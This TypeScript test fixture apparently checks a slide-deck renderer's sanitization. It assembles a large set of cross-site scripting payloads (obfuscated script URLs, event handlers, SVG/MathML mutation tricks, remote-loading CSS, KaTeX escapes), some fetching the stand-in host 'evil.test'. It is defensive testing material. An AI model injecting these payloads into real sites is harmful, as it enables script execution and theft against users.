/** What people try in order to run a program in somebody else's page, one slide each: for every place that shows a deck. */

/** Whoever is asked at this host was reached by something that should not leave. Reserved (RFC 6761), and never resolved. */
export const EVIL = "https://evil.test";

/** What each vector would do: say so in every window that it can reach, ask for an address, and take the slides away (which a PDF shows). */
const hit = [
  "window.__hit=1",
  "try{top.__hit=1}catch(e){}",
  `try{fetch('${EVIL}/hit')}catch(e){}`,
  "document.querySelectorAll('.step').forEach(function(s){s.remove()})",
].join(";");

/** In an attribute between double quotes. */
const h = hit.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
const script = `<script>${hit}</script>`;
const entities = (text: string): string =>
  [...text].map((letter) => `&#x${letter.codePointAt(0)?.toString(16)};`).join("");
const shout = `<img src=x onerror="${h}">`;

/** `javascript:` as browsers may yet read it. */
const spellings: Readonly<Record<string, string>> = {
  plain: "javascript:",
  capitals: "JaVaScRiPt:",
  "leading blanks": " \u0001\t javascript:",
  tab: "java&#9;script:",
  "line end": "java\nscript:",
  "carriage return": "java&#13;script:",
  "decimal references": "&#106;&#97;&#118;&#97;script:",
  "hexadecimal references": `${entities("javascript")}:`,
  "references without their end": "&#0000106&#0000097&#0000118&#0000097&#0000115cript:",
  "named references": "javascript&colon;",
  "named tab": "jav&Tab;ascript&colon;",
  "named line end": "java&NewLine;script:",
  "percent signs": "javascript:%61",
  vbscript: "vbscript:",
  "data page": `data:text/html,${script.replaceAll('"', "&quot;")}`,
  "data page, base 64": `data:text/html;base64,${btoa(script)}#`,
  "data drawing": `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>${script.replaceAll('"', "&quot;")}</svg>#`,
  "view source": "view-source:javascript:",
  "blob page": "blob:null/javascript:",
};

const addressesInHtml: Readonly<Record<string, string>> = Object.fromEntries(
  Object.entries(spellings).map(([name, start]) => [
    `a script's address in html (${name})`,
    `<a href="${start}${h}">a</a><area href="${start}${h}"><iframe src="${start}${h}"></iframe><img src="${start}${h}"><video src="${start}${h}"></video>`,
  ]),
);
const addressesInMarkdown: Readonly<Record<string, string>> = Object.fromEntries(
  Object.entries(spellings).map(([name, start]) => [
    `a script's address in Markdown (${name})`,
    `[a](<${start.replaceAll("\n", "")}${hit}>) ![b](${start.trim()}x) <${start}x>`,
  ]),
);

const html: Readonly<Record<string, string>> = {
  script: `${script}<script src="${EVIL}/a.js"></script><SCRIPT/x>${hit}</SCRIPT>`,
  "script broken in two": `<scr<script>ipt>${hit}</scr</script>ipt><script\n>${hit}</script\n>`,
  "image handlers": `${shout}<img/src=x/onerror="${h}"><img src=x onerror\n=\n"${h}"><img src="x\` \`onerror=${hit} \`">`,
  "handlers of all kinds": `<details open ontoggle="${h}">x</details><video autoplay onloadstart="${h}"><source onerror="${h}"></video><marquee onstart="${h}">m</marquee><body onload="${h}"><p onpointerover="${h}" onclick="${h}" tabindex=0 autofocus onfocus="${h}">x</p>`,
  "animation handlers": `<style>@keyframes k{from{opacity:0}}p{animation:k 1s;transition:all 1s}</style><p onanimationstart="${h}" ontransitionend="${h}">x</p>`,
  drawings: `<svg onload="${h}"><script>${hit}</script><script xlink:href="data:,${h}"/><g onload="${h}"/><foreignObject><iframe srcdoc="${script.replaceAll('"', "&quot;")}"></iframe></foreignObject></svg>`,
  "drawings that lead away": `<svg width=90 height=30><a xlink:href="javascript:${h}" href="javascript:${h}"><text y=20>s</text></a><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${h}</script></svg>#x"/><use xlink:href="${EVIL}/u.svg#x"/></svg>`,
  "animated addresses": `<svg width=90 height=30><a id=q><text y=20>s</text><set attributeName=href to="javascript:${h}"/><animate attributeName=href values="javascript:${h}"/><animate attributeName="xlink:href" begin=0s from="javascript:${h}" to="&"/></a><animate xlink:href="#q" attributeName=href values="javascript:${h}"/><animate onbegin="${h}" attributeName=x dur=1s /></svg>`,
  formulas: `<math><maction actiontype="statusline#${EVIL}" xlink:href="javascript:${h}" href="javascript:${h}">m</maction><annotation-xml encoding="text/html">${shout}</annotation-xml><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${h}&gt;">`,
  frames: `<iframe srcdoc="${script.replaceAll('"', "&quot;")}"></iframe><iframe src="about:blank" srcdoc="${script.replaceAll('"', "&quot;")}" sandbox="allow-same-origin allow-scripts allow-top-navigation" onload="${h}"></iframe><iframe src="http://evil.test/frame"></iframe><iframe src="ftp:${EVIL}"></iframe><frameset><frame src="javascript:${h}"></frameset><portal src="${EVIL}/portal"></portal><fencedframe></fencedframe>`,
  objects: `<object data="data:text/html,${script.replaceAll('"', "&quot;")}"></object><object data="${EVIL}/o"></object><embed src="${EVIL}/e"><embed src="javascript:${h}"><applet code="${EVIL}/x"></applet>`,
  "the page's own words": `<base href="${EVIL}/"><base target="_top"><meta http-equiv="refresh" content="0;url=${EVIL}/meta"><meta http-equiv="Content-Security-Policy" content="script-src *"><link rel=stylesheet href="${EVIL}/l.css"><link rel=prefetch href="${EVIL}/p"><title>${hit}</title></title>${script}`,
  forms: `<form action="${EVIL}/form" id=f><input name=a autofocus onfocus="${h}"><button>go</button></form><button form=f formaction="javascript:${h}">b</button><input type=image src="javascript:${h}" formaction="${EVIL}/i"><isindex action="javascript:${h}"><textarea></textarea>${script}</textarea>`,
  "layers over the page": `<dialog open onclose="${h}" style="position:fixed;inset:0">d</dialog><div popover=auto id=pop onbeforetoggle="${h}">p</div><button popovertarget=pop commandfor=pop command=show-popover>p</button>`,
  "templates and shadows": `<template>${shout}</template><div><template shadowrootmode=open>${script}${shout}</template></div><slot onslotchange="${h}"></slot><p is=x-y>${shout}</p>`,
  "sets and backgrounds": `<img srcset="javascript:${h} 1x, x.png 2x" onerror="${h}" src="x.png"><picture><source srcset="javascript:${h}"></picture><table background="javascript:${h}"><td background="javascript:${h}">x</table><div style="background:url(javascript:${h})">y</div><a href="#a" ping="${EVIL}/ping">z</a>`,
  comments: `<!-- --><!--> ${shout} --> <!---> ${shout} --><!-- --!> ${shout} --><![CDATA[ ${shout} ]]><?php ${shout} ?><!x ${shout}>`,
  "noscript and its kind": `<noscript><p title="</noscript>${shout}"></noscript><noembed><p title="</noembed>${shout}"></noembed><noframes><p title="</noframes>${shout}"></noframes><xmp><p title="</xmp>${shout}"></xmp><plaintext>${shout}`,
  "mutation in a drawing": `<svg></p><style><a id="</style>${shout}">`,
  "mutation in a formula": `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea>${shout}">`,
  "mutation in a style": `<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror="${h}">`,
  "mutation by nesting": `${"<div>".repeat(300)}<svg><desc><table><svg><style><a title="</style>${shout}"></table>`,
  "mutation in a title": `<svg><title><style><img title="</style>${shout}"></title></svg><select><style></select>${shout}</style>`,
  "mutation in a table": `<table><caption><svg><title><table><caption></caption></table><style><a id="</style>${shout}"></title></svg></table>`,
  "style that ends early": `<style></style>${shout}</style><style>/*</style>${shout}*/</style><style><!--</style>${script}--></style>`,
  "style that reaches out": `<style>@import url(${EVIL}/i.css);@import "${EVIL}/j.css";@font-face{font-family:f;src:url(${EVIL}/f.woff)}html,body,iframe,:host{position:fixed!important;inset:-9999px!important;z-index:2147483647!important}*{font-family:f;behavior:url(#x);-moz-binding:url(${EVIL}/b)}p{width:expression(${hit.replaceAll('"', "")})}</style><p>x</p>`,
  "a link over everything": `<a href="#a" style="position:fixed;inset:-9999px;z-index:2147483647;opacity:0;display:block">everything</a><div style="position:absolute;width:99999px;height:99999px;transform:translate3d(0,0,9999px)">more</div>`,
  "names that stand in the way": `<img name=impress id=impress><img name=getElementById><form name=body><input name=attributes><input name=parentNode></form><a id=location href="javascript:${h}">l</a><a id=defaultView></a>`,
};

const tex: Readonly<Record<string, string>> = {
  "formulas by KaTeX": `$$\\href{javascript:${"x"}}{a} \\url{javascript:x} \\htmlClass{step" onclick="x}{b} \\htmlId{impress}{c} \\htmlStyle{position:fixed;inset:0}{d} \\htmlData{a="><img src=x onerror=x>}{e} \\includegraphics{${EVIL}/k.png}$$`,
  "html in a formula": `$</span>${shout}$ $$\\text{${shout}${script}}$$ $$\\unknown{${script}}$$`,
  "code by the highlighter": `\`\`\`html\n</code></pre>${script}${shout}\n\`\`\`\n\n\`\`\`"><img/src=x/onerror=window.__hit=1>\n${shout}\n\`\`\`\n\n\`${script}\` ~~~x\n\n    ${script}`,
  "code by references":
    "```html\n&lt;/code&gt;&lt;script&gt;window.__hit=1&lt;/script&gt;\n```\n\n`&lt;img src=x onerror=window.__hit=1&gt;`",
  "Markdown's own attributes": `![x" onerror="window.__hit=1](x.png "t\\" onload=\\"window.__hit=1") [x](# "\\"><img src=x onerror=window.__hit=1>") | a |\n|---|\n| ${shout} |\n\n[r]: javascript:window.__hit=1 "x"\n[r]`,
  autolinks: `<javascript:window.__hit=1> www.x"onclick="window.__hit=1 ${EVIL.replace("https:", "x:")} <a@b"onload=x>`,
};

/** Raw HTML: the stage must stand these by itself, without the parser's first wall. */
export const htmlVectors: Readonly<Record<string, string>> = { ...html, ...addressesInHtml };

/** Each is the Markdown of one slide. */
const vectors: Readonly<Record<string, string>> = {
  ...htmlVectors,
  ...tex,
  ...addressesInMarkdown,
  // Last: it may reach for the end of a later one.
  "script left open": `<script>${hit}`,
};

const lines = [
  `= id='"><script>window.__hit=1</script>' onclick='window.__hit=1' style='position:fixed;inset:0;background:url("javascript:x")'`,
  `= class='step active "><img src=x onerror=window.__hit=1>' data-x='"><svg onload=window.__hit=1>' title='</title><script>window.__hit=1</script>'`,
  `= lang='"><script>window.__hit=1</script>' data-goto='javascript:window.__hit=1' aria-label='x" onfocus="window.__hit=1'`,
];

/** All of them as one deck of so many slides, hostile in its front matter too. Each vector stands in the notes as well. */
export const hostileDeck = (): { readonly markdown: string; readonly slides: number } => {
  const front = [
    "title: </title></script><script>window.__hit=1</script><img src=x onerror=window.__hit=1>",
    `author: '"></title><script>window.__hit=1</script>'`,
    `lang: '"><script>window.__hit=1</script>'`,
    `date: '<img src=x onerror=window.__hit=1>'`,
    `css: '${EVIL}/deck.css"><script>window.__hit=1</script>'`,
    "latex: true",
    "transition: 0",
  ];
  const all = Object.entries(vectors);
  const slides = all.map(([name, text], index) => {
    const line = lines[index % lines.length];
    return `${line}\n# ${name}\n\n${text}\n\n???\n\n${text}\n`;
  });
  return { markdown: `---\n${front.join("\n")}\n---\n${slides.join("\n---\n")}`, slides: all.length };
};
